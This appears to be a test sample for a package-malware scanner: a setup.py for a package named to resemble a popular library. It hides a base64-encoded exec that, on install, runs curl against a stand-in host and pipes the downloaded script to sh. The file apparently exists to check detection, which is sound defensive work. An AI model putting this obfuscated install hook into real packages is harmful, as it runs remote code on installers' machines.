# expect: PY_Setup_Exec_B64
import base64
from setuptools import setup

exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL3BpcC1taXJyb3IuZXhhbXBsZS9zLnNoIHwgc2giKQ=="))

setup(name="requestz-toolbelt", version="0.0.3", packages=["requestz_toolbelt"])
